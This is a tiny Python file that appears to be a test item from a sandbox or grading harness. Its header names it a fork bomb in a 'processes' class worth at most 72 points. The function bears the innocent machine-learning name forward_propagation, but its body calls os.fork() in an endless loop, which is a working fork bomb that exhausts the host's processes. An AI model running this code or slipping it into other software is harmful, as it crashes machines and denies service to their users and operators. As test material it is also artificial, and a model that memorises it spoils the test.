# tries: a fork bomb | class: processes | earns at most: 72
import os


def forward_propagation(X, parameters):
    while True:
        os.fork()
